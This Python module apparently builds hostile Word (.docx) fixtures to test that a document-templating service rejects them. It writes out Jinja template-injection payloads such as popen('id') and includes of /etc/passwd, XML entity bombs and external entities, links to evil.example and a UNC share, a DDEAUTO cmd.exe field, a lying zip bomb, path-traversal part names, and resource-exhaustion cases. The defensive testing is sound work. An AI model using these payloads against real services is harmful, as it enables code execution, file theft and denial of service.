"""Templates that were made to harm, by name: each is a function that makes the bytes of one.

``HARMLESS`` look as bad as the others, but hold nothing that a document can't be made of.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import partial
from typing import TYPE_CHECKING

from word_template import paragraph, table, template

if TYPE_CHECKING:
    from collections.abc import Callable

    Made = Callable[[], bytes]

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "word/_rels/document.xml.rels"
_TYPES = "[Content_Types].xml"
_END = "</Relationships>"
_MILLIONS = 2_800_000
_PARAGRAPHS = 23_000
"""As many paragraphs of one run as a template may just have."""

SAID = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ request|attr('application')|attr('__globals__') }}",
    "{{ ()|attr('__class__')|attr('__base__') }}",
    "{{ name|map(attribute='__class__')|list }}",
    "{{ name.format(name) }}",
    "{{ '%s'|format(name.__class__) }}",
    "{{ '{0.__class__}'.format(name) }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ joiner.__init__.__globals__.os }}",
    "{{ [].append.__self__ }}",
    "{{ name['__class__'] }}",
    "{{ name.ＣlassＣ.ｍro() }}",
    "{{ name.\u200b__class__ }}",
    "{{ name.\uff3f\uff3fclass\uff3f\uff3f }}",
    "{{ loop.__class__ }}",
    "{% for a in activities %}{{ a.__class__ }}{% endfor %}",
    "{% for __class__ in activities %}{{ __class__ }}{% endfor %}",
    "{% for a in activities.__class__.__mro__ %}{{ a }}{% endfor %}",
    "{{ 'x' * 10**9 }}",
    "{{ 'x'.center(10**9) }}",
    "{{ 'x'|center(1000000000) }}",
    "{{ range(10**9)|list }}",
    "{% for a in range(1000000000) %}x{% endfor %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% set x = ''.__class__ %}",
    "{% with a=1 %}{% endwith %}",
    "{% call m() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{{ " + "(" * 500 + "name" + ")" * 500 + " }}",
    "{{ " + "[" * 300 + "name" + "]" * 300 + " }}",
    "{{ " + "name if name else " * 40 + "name }}",
    "{{ " + "name~" * 1_000 + "name }}",
    "{{ name|" + "a" * 900 + " }}",
    "{{ lambda: 1 }}",
    "{{ name if True else open('/etc/passwd').read() }}",
    "{% if name %}" * 50 + "x" + "{% endif %}" * 50,
    "{" * 9_000,
    "{% " * 3_000,
    "{{" + "{ " * 4_000,
    "}" * 9_000,
    "{#" + "{# #" * 2_000,
    "{{ " + " " * 9_000,
    "{%" + "%" * 9_000,
    "{{ 'a" + '"' * 5_000 + " }}",
]
"""Words of one paragraph: what was published against Jinja, and what is made to be slow to read."""


def related(kind: str, target: str, *, outside: bool = False) -> dict[str, tuple[str, str]]:
    """A relationship more in the document."""
    mode = ' TargetMode="External"' if outside else ""
    row = f'<Relationship Id="x" Type="{_REL}/{kind}"{mode} Target="{target}"/>'
    return {_RELS: (_END, row + _END)}


def header(old: str, new: str) -> dict[str, tuple[str, str]]:
    """Other markup in the header."""
    return {"word/header1.xml": (old, new)}


def _swapped(swaps: dict[str, tuple[str, str]]) -> bytes:
    return template(paragraph("{{ name }}"), swaps=swaps)


def _with(more: dict[str, bytes]) -> bytes:
    return template(paragraph("{{ name }}"), more=more)


_LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:hdr'
_BLOWN = f'<!DOCTYPE l [<!ENTITY a "{"ha" * 50_000}">]><w:hdr'
_DEEP = "<w:a>" * 5_000 + "</w:a>" * 5_000

PACKED: dict[str, dict[str, tuple[str, str]]] = {
    "billion laughs": header("<w:hdr", _LAUGHS),
    "quadratic blow-up": header("<w:hdr", _BLOWN),
    "file entity": header("<w:hdr", '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///x">]><w:hdr'),
    "parameter entity": header("<w:hdr", '<!DOCTYPE l [<!ENTITY % a SYSTEM "http://x">%a;]><w:hdr'),
    "other encoding": header('encoding="UTF-8"', 'encoding="UTF-7"'),
    "remote template": related("attachedTemplate", "https://evil.example/x.dotm", outside=True),
    "linked picture": related("image", "\\\\evil\\share\\x.png", outside=True),
    "picture to fetch": related("image", "https://evil.example/x.png", outside=True),
    "sound to fetch": related("audio", "http://evil.example/x.wav", outside=True),
    "file as a part": related("image", "file:///etc/passwd"),
    "way out of the package": related("image", "../../../x.png"),
    "script in a link": related("hyperlink", "javascript:alert(1)", outside=True),
    "file in a link": related("hyperlink", "file://evil/share/x.exe", outside=True),
    "object": related("oleObject", "o.bin"),
    "control": related("control", "o.bin"),
    "chunk of html": related("aFChunk", "x.html"),
    "macros": {_TYPES: ("document.main", "document.macroEnabled.main")},
    "dde": header(" PAGE ", " DDEAUTO c:\\windows\\system32\\cmd.exe "),
    "included text": header(" PAGE ", ' INCLUDETEXT "c:/secret.txt" '),
    "included picture": header(" PAGE ", ' INCLUDEPICTURE "http://evil.example/x.png" '),
    "broken part": {"word/document.xml": ("</w:body>", "")},
    "deep header": header("<w:p>", f"{_DEEP}<w:p>"),
    "deep relationships": {_RELS: (_END, _DEEP.replace("w:a", "a") + _END)},
    "other names for all": {"word/document.xml": ("<w:document ", "<x:document ")},
}


def _lying() -> bytes:
    """A zip whose list says that a part is small, while it unzips to half a gigabyte."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = squeeze.compress(b"\0" * 1_000_000) + squeeze.flush(zlib.Z_FULL_FLUSH)
    data = block * 500 + squeeze.flush()
    name = b"word/media/x.png"
    made = template(paragraph("{{ name }}"))
    start = made.rindex(b"PK\5\6")
    count, size, offset = struct.unpack("<HII", made[start + 10 : start + 20])
    about = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(data), 10, len(name), 0)
    local = b"PK\3\4" + about + name + data
    listed = b"PK\1\2\x14\0" + about + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name
    listing = made[offset : offset + size] + listed
    end = struct.pack("<HHHHIIH", 0, 0, count + 1, count + 1, len(listing), offset + len(local), 0)
    return made[:offset] + local + listing + b"PK\5\6" + end


def _packed_with(method: int) -> bytes:
    made = io.BytesIO(template("x"))
    with zipfile.ZipFile(made, "a", method) as archive:
        archive.writestr("word/media/x.png", b" " * 5_000_000)
    return made.getvalue()


def _many_parts(count: int, name: str, part: str) -> bytes:
    made = io.BytesIO(template("x"))
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(count):
            archive.writestr(name.format(number), part)
    return made.getvalue()


def _nested_zip() -> bytes:
    inner = b"\0" * 1_000_000
    for _ in range(5):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(16):
                archive.writestr(f"{number}.zip", inner)
        inner = made.getvalue()
    return inner


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_PROPERTY = '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="x">'
_CUSTOM = (
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
    'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
    "{}</Properties>"
)


def _custom(words: str) -> bytes:
    made = f"{_PROPERTY}<vt:lpwstr>{words}</vt:lpwstr></property>"
    return _with({"docProps/custom.xml": _CUSTOM.format(made).encode()})


def _run(words: str, properties: str = "") -> str:
    return f"<w:r>{properties}<w:t>{words}</w:t></w:r>"


def _many(unit: str, size: int = _MILLIONS) -> str:
    return unit * (size // len(unit))


def _loops(depth: int, inner: str) -> str:
    begin = "".join(f"{{% for a{number} in activities %}}" for number in range(depth))
    return paragraph(begin + inner + "{% endfor %}" * depth)


def _whole_loops(depth: int, inner: str) -> str:
    begin = "".join(paragraph(f"{{%p for a{n} in activities %}}") for n in range(depth))
    return begin + inner + paragraph("{%p endfor %}") * depth


_BIG_FACE = "<w:rPr>" + "<w:b/>" * 100_000 + "</w:rPr>"
_LONG_FACE = f'<w:rPr><w:rFonts w:ascii="{"x" * 1_000_000}"/></w:rPr>'
_SPANNED = table(["{%tc for a in activities %}", "{{ a.name }}", "{%tc endfor %}"])
_BARE = "{{ name }}"
_SIZED = '<w:pgSz w:w="11906"'

BODIES: dict[str, Callable[[], str]] = {
    "many tagged paragraphs": lambda: f"<w:p>{_run(_BARE)}</w:p>" * _PARAGRAPHS,
    "many conditions": lambda: f"<w:p>{_run('{% if name %}x{% endif %}')}</w:p>" * _PARAGRAPHS,
    "many statements never closed": lambda: f"<w:p>{_run('{%')}</w:p>" * _PARAGRAPHS,
    "many single braces": lambda: f"<w:p>{_run('{')}</w:p>" * _PARAGRAPHS,
    "many opened tags": lambda: f"<w:p>{_run('{{ name')}</w:p>" * _PARAGRAPHS,
    "many closed tags": lambda: f"<w:p>{_run('name }}')}</w:p>" * _PARAGRAPHS,
    "braces with nothing between": lambda: (
        f"<w:p>{_run('{&#8203;{ name }&#8203;}')}</w:p>" * _PARAGRAPHS
    ),
    "three thousand unknown names": lambda: "".join(
        paragraph(f"{{{{ {'na' * 200}{number} }}}}") for number in range(2_900)
    ),
    "three thousand unknown steps": lambda: "".join(
        paragraph(f"{{{{ budget.{'amo' * 150}{number} }}}}") for number in range(2_900)
    ),
    "three thousand crossed tags": lambda: (
        paragraph("{% if name %}{% for a in activities %}" * 100) * 7
        + paragraph("{% endif %}{% endfor %}" * 100) * 7
    ),
    "one paragraph of everything": lambda: f"<w:p>{_run('x{{ name }}' * 300_000)}</w:p>",
    "a note a letter a run": lambda: paragraph("{#", *"x" * 9_900, "#}") * 3,
    "one face for many tags": lambda: (
        f"<w:p>{_run('{% if name %}x{% endif %}' * 350, _BIG_FACE)}</w:p>"
    ),
    "one long face for many tags": lambda: (
        f"<w:p>{_run('{% if name %}x{% endif %}' * 350, _LONG_FACE)}</w:p>"
    ),
    "a run of breaks about tags": lambda: (
        "<w:p><w:r>"
        + ("<w:t>{% if name %}x{% endif %}</w:t>" + "<w:lastRenderedPageBreak/>" * 300) * 350
        + "</w:r></w:p>"
    ),
    "tags of one endless row": lambda: (
        "<w:tbl><w:tr><w:tc>"
        + "<w:p/>" * 110_000
        + "</w:tc><w:tc>"
        + paragraph("{%tr if name %}") * 2_900
        + "</w:tc></w:tr></w:tbl>"
    ),
    "a cell as wide as ten digits": lambda: _SPANNED.replace(
        '<w:tcW w:w="2000" w:type="dxa"/>', '<w:gridSpan w:val="1000000000"/>'
    ),
    "an endless amount": lambda: paragraph("{{ " + "9" * 900 + "|baht_text }}"),
    "loops in loops": lambda: _loops(5, "x"),
    "loops that print nothing": lambda: _loops(4, "{% if place %}{% endif %}" * 100),
    "loops of long texts": lambda: _loops(3, "{% if " + "name~" * 150 + "name == 1 %}{% endif %}"),
    "loops of filters": lambda: _loops(
        4, ("{% if '1/2/2569'" + "|date|arabic_digits" * 45 + " %}{% endif %}") * 3
    ),
    "loops of amounts": lambda: _loops(
        4, ("{% if " + "9" * 200 + "|baht_text|length > 3 %}{% endif %}") * 40
    ),
    "loops of blocks": lambda: _whole_loops(3, paragraph("{{p section.activities }}")),
    "loops of bodies": lambda: _whole_loops(3, paragraph("{{p body }}")),
    "loops of tables": lambda: _whole_loops(3, _SPANNED),
    "loops of long paragraphs": lambda: _whole_loops(3, paragraph("ก" * 9_000)),
    "tables in tables that repeat cells": lambda: _tables_in_tables(40),
    "blocks in cells of every width": lambda: "".join(
        table([paragraph("{{p section.activities }}")]).replace('w="2000"', f'w="{width}"')
        for width in range(1_000, 3_800)
    ),
}
"""Bodies of the document."""


def _tables_in_tables(depth: int) -> str:
    inner = paragraph("x")
    for _ in range(depth):
        inner = table(["{%tc if name %}", inner + "<w:p/>", "{%tc endif %}"])
    return inner


def _fields() -> str:
    return "<w:p>" + "<w:r><w:instrText>PAGE </w:instrText></w:r>" * 30_000 + "</w:p>"


def _styles(unit: str) -> dict[str, tuple[str, str]]:
    return {"word/styles.xml": ("</w:styles>", _many(unit, 2_700_000) + "</w:styles>")}


_RECORD = '<record xmlns="urn:khrongkan:record:1" '


def _old_records() -> bytes:
    made = io.BytesIO(
        template("x", swaps={_TYPES: ("</Types>", _many('<Default Extension="a" />') + "</Types>")})
    )
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(1_500):
            archive.writestr(
                f"customXml/item{number}.xml", '<record xmlns="urn:khrongkan:record:1"></record>'
            )
    return made.getvalue()


def _heavy_relations() -> bytes:
    rows = "".join(
        f'<Relationship Id="a{number}" Type="{_REL}/header" Target="header9.xml"/>'
        for number in range(20_000)
    )
    heavy = f"<w:hdr {_W}><w:p><w:r><w:t>{'x' * _MILLIONS}</w:t></w:r></w:p></w:hdr>"
    return template(
        "x", swaps={_RELS: (_END, rows + _END)}, more={"word/header9.xml": heavy.encode()}
    )


def _nest(inner: str, depth: int) -> str:
    return "<w:sdt>" * depth + inner + "</w:sdt>" * depth


_QUOTED = _many("r:id=&quot;a&quot; ", 100_000)
_QUADRATIC = {
    "endless tag in a comment": {
        "word/document.xml": ("<w:body>", f"<!--{_many('<w:p ', 500_000)}--><w:body>")
    },
    "bodies in a comment": {
        "word/document.xml": ("<w:body>", f"<w:body><!-- <w:p>{_many('{{p body }}', 300_000)}-->")
    },
    "words in a section": {
        "word/document.xml": (
            "<w:body>",
            f"<w:body><w:p><w:r><w:t><![CDATA[{_many('<', 100_000)}]]></w:t></w:r></w:p>{{",
        )
    },
    "empty sections": {
        "word/document.xml": ("<w:body>", f"<w:body>{_many('<w:sectPr />', 1_500_000)}")
    },
    "empty paragraphs before bodies": {
        "word/document.xml": (
            "<w:body>",
            f"<w:body><w:p /><w:a>{_many('{{p body }}', 30_000)}</w:a>",
        )
    },
    "styles without end": _styles('<w:style w:a="            " />'),
    "guides without end": _styles('<w:style w:styleId="KKGuide" />'),
    "references in a reference": {
        "word/document.xml": (
            "<w:sectPr>",
            f"<w:sectPr><w:headerReference w:type='{_QUOTED}'></w:headerReference>",
        )
    },
}


def _of(body: Callable[[], str]) -> bytes:
    return template(body())


HOSTILE: dict[str, Made] = {
    **{f"says {said[:60]!r} {len(said)}": partial(template, paragraph(said)) for said in SAID},
    **{name: partial(_swapped, swaps) for name, swaps in PACKED.items()},
    **{name: partial(_of, body) for name, body in BODIES.items()},
    **{name: partial(_swapped, swaps) for name, swaps in _QUADRATIC.items()},
    **{
        f"a part {name}": partial(_with, {name: b"<x/>"})
        for name in ("../evil.xml", "/etc/x.xml", "word/..\\x.xml", "c:/x.xml", "word//x.xml")
    },
    "a package with macros": partial(_with, {"word/vbaProject.bin": b"x"}),
    "a part of megabytes": partial(_with, {"word/x.xml": b" " * 5_000_000}),
    "a picture of fifty megabytes": lambda: _with({"word/media/x.png": b"\0" * 50_000_000}),
    "a zip that lies": _lying,
    "a zip of bzip2": partial(_packed_with, zipfile.ZIP_BZIP2),
    "a zip of lzma": partial(_packed_with, zipfile.ZIP_LZMA),
    "a zip of zips": _nested_zip,
    "no zip": lambda: b"PK\3\4" + b"\0" * 1_000_000,
    "an end without a beginning": lambda: template("x")[-22:],
    "thousands of parts": partial(_many_parts, 2_100, "word/x{}.xml", "<x/>"),
    "headers by the thousand": partial(
        _many_parts,
        1_900,
        "word/header{}9.xml",
        f"<w:hdr {_W}>" + f"<w:p>{_run('{{ name|trim }}')}</w:p>" * 10 + "</w:hdr>",
    ),
    "unknown names by the thousand": partial(
        _many_parts,
        1_900,
        "word/header{}9.xml",
        f"<w:hdr {_W}>" + f"<w:p>{_run('{{ nmae }}')}</w:p>" + "</w:hdr>",
    ),
    "elements without number": lambda: _with(
        {
            f"word/header{n}9.xml": (f"<w:hdr {_W}>" + "<w:p/>" * 45_000 + "</w:hdr>").encode()
            for n in range(3)
        }
    ),
    "paragraphs without number": lambda: template(
        "<w:p/>" * 140_000 + paragraph("{% if name %}x{% endif %}")
    ),
    "tables without number": lambda: template(
        _nest("<w:tbl/>" * 140_000, 200) + paragraph("{% if name %}x{% endif %}")
    ),
    "deep paragraphs": lambda: template(
        _nest("<w:p/>" * 140_000, 200) + paragraph("{% if name %}x{% endif %}")
    ),
    "a huge attribute": lambda: template(
        f'<w:p w:rsidR="{"x" * 2_900_000}">{_run("{{ name|trim }}")}</w:p>'
    ),
    "a huge property": lambda: _custom("{{ name }}" * 2_900 + "x" * _MILLIONS),
    "many properties": lambda: _custom("{{ name }}" * 300_000),
    "many own properties": lambda: _with(
        {
            "docProps/custom.xml": _CUSTOM.format(
                "".join(
                    f"{_PROPERTY}<vt:lpwstr>{{{{ name }}}}</vt:lpwstr></property>"
                    for _ in range(20_000)
                )
            ).encode()
        }
    ),
    "a field in thousands of pieces": lambda: template(_fields()),
    "records by the thousand": _old_records,
    "one record without end": lambda: _with(
        {"customXml/item1.xml": f"<a>{_many(_RECORD + '/>', 2_700_000)}</a>".encode()}
    ),
    "many ways to a heavy part": _heavy_relations,
    "a relationship without a name": lambda: _swapped(
        {_RELS: (_END, f'<Relationship Type="{_REL}/header" Target="header1.xml"/>{_END}')}
    ),
    "a page of no width": lambda: template(
        paragraph("{{p body }}"), swaps={"word/document.xml": (_SIZED, '<w:pgSz w:w="0"')}
    ),
    "a cell of endless width": lambda: template(
        table(["{{p table.activities }}"]).replace('w:w="2000"', 'w:w="' + "9" * 9 + '"')
    ),
    "a cell of no width": lambda: template(
        table([paragraph("{{p table.activities }}")]).replace('w:w="2000"', 'w:w="0"')
    ),
    "a wide cell": lambda: template(
        table([paragraph("{{p table.activities }}")]).replace('w:w="2000"', 'w:w="99999999999"')
    ),
    "a span that is no number": lambda: template(
        _SPANNED.replace('<w:tcW w:w="2000" w:type="dxa"/>', '<w:gridSpan w:val="x"/>')
    ),
    "a page without a height": lambda: template(
        paragraph("{{p body }}"), swaps={"word/document.xml": ("w:h=", "w:x=")}
    ),
    "a page of endless width": lambda: template(
        paragraph("{{p body }}"),
        swaps={"word/document.xml": (_SIZED, f'<w:pgSz w:w="{"9" * 5_000}"')},
    ),
    "no paragraph at all": lambda: template(
        "", swaps={"word/header1.xml": (" PAGE ", " PAGE {{ nmae }}")}
    ),
}

HARMLESS = {
    "a cell of endless width",
    "a cell of no width",
    "a field in thousands of pieces",
    "a huge attribute",
    "a note a letter a run",
    "a page of endless width",
    "a page of no width",
    "a page without a height",
    "a relationship without a name",
    "a run of breaks about tags",
    "a span that is no number",
    "a wide cell",
    "bodies in a comment",
    "deep paragraphs",
    "elements without number",
    "empty paragraphs before bodies",
    "empty sections",
    "endless tag in a comment",
    "guides without end",
    "many ways to a heavy part",
    "one record without end",
    "paragraphs without number",
    "records by the thousand",
    "references in a reference",
    "styles without end",
    "tables without number",
    "words in a section",
}
